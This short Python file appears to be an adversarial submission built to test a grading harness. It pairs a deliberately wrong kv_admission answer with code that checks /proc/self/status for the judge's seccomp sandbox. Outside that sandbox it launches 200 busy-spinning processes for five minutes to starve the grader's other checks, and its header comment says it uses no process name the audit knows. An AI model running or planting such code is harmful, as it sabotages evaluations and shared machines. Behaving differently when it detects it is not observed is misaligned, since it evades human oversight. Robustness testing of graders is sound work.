# a wrong kv_admission whose cell, in the grading kernel only, starts 200 worker processes (concurrent.futures, no name the audit knows) that spin for 5 minutes: 200 runnable tasks on 2 cores, the kernel still answers its interrupts, while the preflight and the other slot grade
# target: ex06_2
import time
from concurrent.futures import ProcessPoolExecutor


def kv_admission(prompt_len, max_new_tokens, free_blocks, num_blocks, block_size,
                 admission="reserve"):
    """Wrong on purpose: always admits."""
    return "admit"


def _in_the_judge():
    with open("/proc/self/status") as f:  # the judge's child runs under a seccomp filter
        return any(line.split() == ["Seccomp:", "2"] for line in f)


def _spin(until):
    n = 0
    while time.monotonic() < until:
        n += 1
    return n


if not _in_the_judge():
    _pool = ProcessPoolExecutor(max_workers=200)
    _until = time.monotonic() + 300
    _spinning = [_pool.submit(_spin, _until) for _ in range(200)]
